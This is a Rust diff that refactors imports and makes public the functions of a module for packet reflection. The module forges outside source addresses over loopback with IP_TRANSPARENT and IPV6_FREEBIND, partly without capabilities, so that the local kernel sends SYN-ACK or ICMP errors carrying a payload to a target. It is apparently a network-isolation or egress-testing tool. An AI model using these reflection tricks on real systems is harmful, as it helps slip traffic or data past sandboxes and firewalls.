@@ -1,10 +1,10 @@
 //! Reflection: forge an outside source over loopback and let the own kernel answer outward.
 
-use crate::int80;
-use crate::raw::{own4, own6};
-use crate::sys::{Socket, Step};
-use crate::target::Target;
-use crate::tcp::SERVICE_PORT;
+use super::int80;
+use super::raw::{own4, own6};
+use super::sys::{Socket, Step};
+use super::target::Target;
+use super::tcp::SERVICE_PORT;
 use std::net::SocketAddr;
 
 const IPV6_FREEBIND: i32 = 78;
@@ -25,14 +25,14 @@ fn freebind(socket: &Socket) -> Step<()> {
 }
 
 /// The own service answers a SYN that seems to come from the outside.
-pub(crate) fn transparent_synack(t: &Target) -> Step<()> {
+pub fn transparent_synack(t: &Target) -> Step<()> {
     let socket = Socket::tcp(t.at4())?;
     transparent(&socket)?;
     knock_own4(&socket, t)
 }
 
 /// The same, the option set through the 32-bit system call.
-pub(crate) fn transparent_synack_int80(t: &Target) -> Step<()> {
+pub fn transparent_synack_int80(t: &Target) -> Step<()> {
     let socket = Socket::tcp(t.at4())?;
     int80::setsockopt(
         &socket,
@@ -48,7 +48,7 @@ fn knock_own4(socket: &Socket, t: &Target) -> Step<()> {
     socket.connect(SocketAddr::new(own4()?.into(), SERVICE_PORT))
 }
 
-pub(crate) fn transparent_unreach(t: &Target) -> Step<()> {
+pub fn transparent_unreach(t: &Target) -> Step<()> {
     let socket = Socket::udp(t.at4())?;
     transparent(&socket)?;
     socket.bind(t.at4())?;
@@ -56,7 +56,7 @@ pub(crate) fn transparent_unreach(t: &Target) -> Step<()> {
 }
 
 /// Needs no capability at all.
-pub(crate) fn freebind_synack(t: &Target) -> Step<()> {
+pub fn freebind_synack(t: &Target) -> Step<()> {
     let socket = Socket::tcp(t.at6())?;
     freebind(&socket)?;
     socket.bind(t.at6())?;
@@ -64,7 +64,7 @@ pub(crate) fn freebind_synack(t: &Target) -> Step<()> {
 }
 
 /// Needs no capability at all; the ICMPv6 error carries the payload.
-pub(crate) fn freebind_unreach(t: &Target) -> Step<()> {
+pub fn freebind_unreach(t: &Target) -> Step<()> {
     let socket = Socket::udp(t.at6())?;
     freebind(&socket)?;
     socket.bind(t.at6())?;
